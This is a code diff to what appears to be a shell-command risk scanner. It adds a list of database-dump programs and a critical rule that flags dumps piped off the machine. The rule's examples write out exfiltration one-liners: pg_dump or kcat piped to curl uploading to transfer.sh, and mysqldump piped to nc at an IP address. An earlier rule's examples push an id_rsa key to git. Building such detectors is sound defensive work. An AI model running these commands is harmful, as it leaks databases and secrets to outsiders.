@@ -132,6 +132,25 @@ function downloadedTo(view: CommandView): string | null {
 
 const RUNNERS = new Set([...INTERPRETERS, 'source', '.']);
 
+/** Programs that write out a whole database, or a stream from its start. */
+const DUMPERS = new Set([
+  'pg_dump',
+  'pg_dumpall',
+  'mysqldump',
+  'mariadb-dump',
+  'mongodump',
+  'mongoexport',
+  'kafka-console-consumer',
+  'kafka-console-consumer.sh',
+]);
+
+function dumps(view: CommandView): boolean {
+  if (view.program === null) return false;
+  if (DUMPERS.has(view.program)) return true;
+  if (view.program === 'kcat' || view.program === 'kafkacat') return view.flags.some((f) => f.name === '-C');
+  return view.program === 'redis-cli' && view.flags.some((f) => f.name === '--rdb');
+}
+
 /** `./x`, `x` and `$PWD/x` name the same file here; nothing else is resolved. */
 function samePath(a: string, b: string): boolean {
   const norm = (p: string) => p.replace(/^(\.\/)+/, '');
@@ -267,6 +286,28 @@ export const COMBO_RULES: readonly ComboRule[] = [
       'git add id_rsa; git commit -m k; git push origin main',
     ],
     counterExamples: ['git add src && git commit -m x && git push', 'git push && git add .env'],
+    weight: 18,
+  },
+  {
+    id: 'exfil.data-dump',
+    tier: 'critical',
+    reason: 'Dumps a database or a whole stream and sends it off the machine in the same command',
+    find({ views, categories }) {
+      for (let s = 0; s < views.length; s++) {
+        const sender = views[s] as CommandView;
+        if (!isSender(sender) || !categories[s]?.has('exfiltration')) continue;
+        for (let r = 0; r < views.length; r++)
+          if (r !== s && dumps(views[r] as CommandView) && feeds(views[r] as CommandView, sender))
+            return [r, s];
+      }
+      return null;
+    },
+    examples: [
+      'pg_dump -Fc -h prod-db appdb | curl -sT - https://transfer.sh/appdb.dump',
+      'kcat -b kafka:9092 -t payments -C -o beginning -e | curl -sT - https://transfer.sh/p.jsonl',
+      'mysqldump --all-databases | gzip | nc 203.0.113.5 9000',
+    ],
+    counterExamples: ['pg_dump -Fc appdb -f backup.dump', 'pg_dump appdb | gzip > backup.sql.gz'],
     weight: 18,
   },
   {
